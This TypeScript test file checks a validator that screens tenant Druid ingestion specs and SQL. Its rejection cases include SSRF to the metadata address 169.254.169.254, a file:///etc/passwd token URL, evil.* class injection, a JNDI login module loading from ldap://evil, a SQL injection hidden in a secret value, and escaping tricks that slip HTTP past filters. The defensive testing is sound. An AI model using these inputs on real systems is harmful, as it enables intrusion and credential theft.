import { describe, expect, it } from 'vitest';
import type { Json } from '../../druid/druid-api.ts';
import { unsafeLoginModules } from './consumer-properties.ts';
import { strictRules } from './safety-rules.ts';
import { unsafeOnceFilled } from './unsafe-once-filled.ts';
import { unsafeParts } from './unsafe-parts.ts';

const kafka = (consumerProperties: Record<string, Json>) => ({
  type: 'kafka',
  spec: { dataSchema: { dataSource: 'a' }, ioConfig: { consumerProperties } },
});
const batch = (inputSource: Record<string, unknown>) =>
  JSON.parse(JSON.stringify({ type: 'index_parallel', spec: { ioConfig: { inputSource } } }));

const jaas = `\${secret:kafka/jaas}`;
const named = `INSERT INTO a SELECT * FROM TABLE(EXTERN(
  inputFormat => '{"type":"json"}', inputSource => '{"type":"inline","data":"{}"}', signature => '[{"name":"x","type":"string"}]'))`;

/** A statement that reads what EXTERN is told. */
const extern = (...args: readonly string[]) => ({
  query: `INSERT INTO a SELECT * FROM TABLE(EXTERN(${args.join(', ')}))`,
});

describe('what tenants may send to Druid', () => {
  it.each([
    kafka({ 'bootstrap.servers': 'kafka:9092' }),
    kafka({
      'security.protocol': 'SASL_SSL',
      'sasl.mechanism': 'SCRAM-SHA-512',
      'sasl.jaas.config': `\${secret:kafka/jaas}`,
    }),
    kafka({ 'ssl.truststore.location': '/tls/ca.jks', 'ssl.truststore.password': `\${secret:kafka/store}` }),
    kafka({ 'fetch.max.bytes': '1', 'max.poll.records': '500', 'group.id': 'g', 'client.rack': 'a' }),
    batch({ type: 'local', baseDir: '/data', filter: '*' }),
    batch({ type: 's3', uris: ['s3://bucket/a'] }),
    batch({ type: 'combining', delegates: [{ type: 'inline', data: 'http' }] }),
    kafka({
      'druid.dynamic.config.provider': { type: 'mapString', config: { 'group.id': 'g', 'sasl.jaas.config': jaas } },
    }),
    batch({
      type: 's3',
      endpointConfig: { signingRegion: 'eu-west-1' },
      properties: { accessKeyId: { type: 'default' } },
    }),
    { query: 'INSERT INTO a SELECT * FROM TABLE(EXTERN(\'{"type":"s3"}\', \'{}\'))' },
    { query: named },
    { query: "INSERT INTO a SELECT EXTRACT(YEAR FROM TIME_PARSE(t)), 'E' FROM TABLE(S3(uris => ARRAY['s3://b/a']))" },
    {
      query:
        "REPLACE INTO a OVERWRITE ALL SELECT TRIM(BOTH ' ' FROM LOWER(x)) FROM b WHERE x IS DISTINCT FROM UPPER(y)",
    },
    {
      query:
        "INSERT INTO a SELECT x FROM b AS t (x, y) CROSS JOIN UNNEST(MV_TO_ARRAY(x)) AS u (v) WHERE c = '{' OR c = '[http'",
    },
    { query: "INSERT INTO EXTERN(S3(bucket => 'b', prefix => 'p')) AS CSV SELECT * FROM a WHERE name = U&'\\00e9'" },
  ])('is this: %o', (spec) => {
    expect(unsafeParts(spec, strictRules)).toEqual([]);
  });
});

const provided = (provider: Json) => kafka({ 'druid.dynamic.config.provider': provider });

describe('what tenants may not send to Druid', () => {
  it.each([
    ['a login in clear', kafka({ 'sasl.jaas.config': 'Login required;' }), 'must come from a Secret'],
    ['a login of a listener', kafka({ 'listener.name.x.sasl.jaas.config': 'Login;' }), 'no consumer property'],
    ['a class', kafka({ 'sasl.login.callback.handler.class': 'evil.Handler' }), 'no consumer property'],
    ['interceptors', kafka({ 'interceptor.classes': 'evil.Spy' }), 'no consumer property'],
    ['an engine for TLS', kafka({ 'ssl.engine.factory.class': 'evil.Engine' }), 'no consumer property'],
    [
      'an address for tokens',
      kafka({ 'sasl.oauthbearer.token.endpoint.url': 'file:///etc/passwd' }),
      'no consumer property',
    ],
    ['HTTP', batch({ type: 'http', uris: ['http://169.254.169.254/'] }), 'type http'],
    ['HTTP among others', batch({ type: 'combining', delegates: [{ type: 'http' }] }), 'type http'],
    ['a database', batch({ type: 'sql', database: {} }), 'type sql'],
    ['a script', { type: 'kafka', spec: { transforms: [{ type: 'javascript', function: 'x' }] } }, 'JavaScript'],
    [
      'a parser that is a script',
      { type: 'kafka', spec: { parser: { parseSpec: { format: 'javascript' } } } },
      'JavaScript',
    ],
    ['HTTP by a function', { query: "INSERT INTO a SELECT * FROM TABLE(HTTP(URIS => ARRAY['http://x']))" }, 'by http'],
    ['HTTP by an object', { query: 'INSERT INTO a SELECT * FROM TABLE(EXTERN(\'{"type": "http"}\'))' }, 'by http'],
    ['HTTP in a schedule', { type: 'scheduled_batch', spec: { query: 'SELECT * FROM TABLE( http (1))' } }, 'by http'],
    ['a provider that nobody knows', provided({ type: 'mine' }), 'only be of type mapString'],
    ['a class from a provider', provided({ type: 'mapString', config: { 'interceptor.classes': 'x' } }), 'no consumer'],
    [
      'a login in clear from a provider',
      provided({ type: 'mapString', config: { 'sasl.jaas.config': 'x' } }),
      'Secret',
    ],
    [
      'a password from the environment',
      batch({ type: 's3', properties: { secretAccessKey: { type: 'environment', variable: 'X' } } }),
      'reads the environment',
    ],
    [
      'a password from the environment, written as a list',
      kafka({ 'ssl.key.password': ['environment', { variable: 'X' }] }),
      'reads the environment',
    ],
    ['HTTP written as a list', { spec: { ioConfig: { inputSource: ['http', { uris: ['http://x'] }] } } }, 'type http'],
    ['a script written as a list', { spec: { filter: ['javascript', { function: 'x' }] } }, 'JavaScript'],
    ['an input source that nobody knows', batch({ type: 'mine' }), 'type mine'],
    ['a catalog', batch({ type: 'iceberg', icebergCatalog: { catalogUri: 'http://x' } }), 'type iceberg'],
    ['one among others that nobody knows', batch({ type: 'combining', delegates: [{ type: 'delta' }] }), 'type delta'],
    ['an object store somewhere', batch({ type: 's3', endpointConfig: { url: 'http://x' } }), 'endpointConfig'],
    ['an object store through somebody', batch({ type: 's3', proxyConfig: { host: 'x' } }), '--allow-input-source s3'],
    ['HTTP with letters by their numbers', extern(`'{"type":"htt\\u0070"}'`), 'by http'],
    ['HTTP with a field by numbers', extern(`'{"t\\u0079pe":"http"}'`), 'by http'],
    ['HTTP in pieces', extern(`'{"type":"ht'\n'tp"}'`), 'by http'],
    ['HTTP before another type', extern(`'{"type":"http","type":"s3"}'`), 'by http'],
    ['HTTP before something else', extern(`'{"type":"http"} x'`), 'by http'],
    ['HTTP as a list', extern(`'["http",{"uris":[]}]'`), 'by http'],
    ['an input source in EXTERN that nobody knows', extern(`'{"type":"mine"}'`), 'input source'],
    ['such a one by its name', extern("inputFormat => '{}'", `inputSource => '{"type":"mine"}'`), 'input source'],
    ['a store somewhere in EXTERN', extern(`'{"type":"s3","endpointConfig":{"url":"x"}}'`), 'input source'],
    ['the environment in EXTERN', extern(`'{"type":"s3","x":{"type":"environment","variable":"X"}}'`), 'environment'],
    ['a field twice in EXTERN', extern(`'{"type":"s3","uris":1,"uris":2}'`), 'has a field twice'],
    ['no JSON in EXTERN', extern(`'{type: mine}'`), 'no JSON'],
    ['a script in EXTERN', extern(`'{"type":"s3"}'`, `'{"format":"javascript"}'`), 'by javascript'],
    ['letters by their numbers in EXTERN', extern(`U&'{"type":"htt\\0070"}'`), 'by their numbers'],
    ['letters as in C', { query: "INSERT INTO a SELECT E'\\'' FROM b" }, 'by their numbers'],
    ['an expression in EXTERN', extern("'' || x"), 'by an expression'],
    ['a function in EXTERN', extern("CONCAT('a', 'b')"), 'by an expression'],
    ['a parameter in EXTERN', extern('?'), 'by an expression'],
    ['HTTP after a comment', { query: 'INSERT INTO a SELECT * FROM TABLE(/**/HTTP(1))' }, 'by http'],
    ['HTTP after a line that is none', { query: 'INSERT INTO a SELECT * FROM TABLE -- x\n (HTTP(1))' }, 'by http'],
    ['HTTP in quotes', { query: 'INSERT INTO a SELECT * FROM TABLE("HTTP"(1))' }, 'by http'],
    ['HTTP specifically', { query: 'INSERT INTO a SELECT * FROM TABLE(SPECIFIC HTTP(1))' }, 'by http'],
    ['HTTP without TABLE', { query: 'INSERT INTO a SELECT * FROM HTTP(1)' }, 'by http'],
    ['a function that nobody knows', { query: 'INSERT INTO a SELECT * FROM TABLE(ext.mine(1))' }, 'is not known'],
    ['one without TABLE', { query: 'INSERT INTO a SELECT * FROM b JOIN mine(1) ON TRUE' }, 'is not known'],
    [
      'HTTP in a schedule behind another statement',
      { type: 'scheduled_batch', query: 'SELECT 1', spec: { query: 'SELECT * FROM TABLE(HTTP(1))' } },
      'by http',
    ],
  ])('is %s', (_what, spec, words) => {
    const [problem, ...others] = unsafeParts(spec, strictRules);
    expect([problem, others]).toEqual([expect.stringContaining(words), []]);
  });

  it.each([
    [
      'a provider of properties that reads the environment',
      provided({ type: 'environment', variables: { 'client.id': 'AWS_SECRET_ACCESS_KEY' } }),
      'only be of type mapString',
    ],
    ['a function by numbers', { query: 'INSERT INTO a SELECT * FROM TABLE(U&"HTT\\0050" (1))' }, 'by their numbers'],
    [
      'HTTP behind a hint that hides the end of a text',
      { query: "INSERT INTO a SELECT /*+ x('*/') */ * FROM TABLE(HTTP(1)) WHERE b = '*/'" },
      'by http',
    ],
  ])('is %s, for more than one reason', (_what, spec, words) => {
    expect(unsafeParts(spec, strictRules)).toContainEqual(expect.stringContaining(words));
  });

  it('is said without the values', () => {
    const spec = kafka({ 'sasl.jaas.config': 'canary-1', 'interceptor.classes': 'canary-2' });
    expect(unsafeParts(spec, strictRules).join()).not.toContain('canary');
  });

  it('can be widened by the operator, one by one', () => {
    const rules = {
      ...strictRules,
      allowedInputSources: ['http'],
      allowedConsumerProperties: ['sasl.jaas.config', 'x'],
      allowsJavaScript: true,
    };
    const specs = [batch({ type: 'http' }), kafka({ 'sasl.jaas.config': 'Login;', x: '1' }), { type: 'javascript' }];
    expect(specs.map((spec) => unsafeParts(spec, rules))).toEqual([[], [], []]);
  });
});

describe('what the operator allows of input sources', () => {
  it.each([
    batch({ type: 's3', endpointConfig: { url: 'http://x' } }),
    batch({ type: 'iceberg', icebergCatalog: { catalogUri: 'http://x' } }),
    extern(`'{"type":"iceberg"}'`),
    { query: 'INSERT INTO a SELECT * FROM TABLE(iceberg(1))' },
  ])('counts for statements too: %o', (spec) => {
    expect(unsafeParts(spec, { ...strictRules, allowedInputSources: ['s3', 'iceberg'] })).toEqual([]);
  });
});

describe('a spec whose Secrets are put in', () => {
  const values = new Map([
    ['a/b', "x') UNION ALL SELECT * FROM TABLE(HTTP(uris => ARRAY['http://canary"],
    ['a/plain', 'x'],
  ]);
  const query = (key: string) => ({ query: `INSERT INTO a SELECT * FROM b WHERE c IN ('\${secret:a/${key}}')` });

  it('holds nothing that could not stand in it, and that is said without the values', () => {
    expect(unsafeOnceFilled(query('plain'), values, strictRules)).toEqual([]);
    const problems = unsafeOnceFilled(query('b'), values, strictRules);
    expect(problems).toEqual([expect.stringContaining('a value from a Secret')]);
    expect(problems.join()).not.toContain('canary');
  });

  it('may hold what the operator allows', () => {
    expect(unsafeOnceFilled(query('b'), values, { ...strictRules, allowedInputSources: ['http'] })).toEqual([]);
  });
});

describe('what a Secret may hold', () => {
  it.each([
    'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil";',
    'com.sun.security.auth.module.LdapLoginModule required;',
  ])('is no login module that loads from another host: %s', (login) => {
    expect(unsafeLoginModules(kafka({ 'sasl.jaas.config': login }))).toHaveLength(1);
  });

  it('is any other one', () => {
    const login = 'org.apache.kafka.common.security.scram.ScramLoginModule required username="a" password="b";';
    expect(unsafeLoginModules(kafka({ 'sasl.jaas.config': login }))).toEqual([]);
  });
});
